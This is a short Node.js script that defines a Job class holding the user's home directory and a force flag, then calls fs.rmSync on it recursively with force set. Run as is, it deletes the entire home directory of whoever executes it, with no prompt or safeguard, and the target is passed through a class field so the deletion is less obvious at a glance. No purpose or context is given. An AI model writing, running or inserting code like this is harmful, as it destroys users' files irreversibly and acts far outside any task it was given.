const { rmSync } = require('fs');
const os = require('os');

class Job {
  dir = os.homedir();
  force = true;
}

const job = new Job();
rmSync(job.dir, { recursive: true, force: job.force });
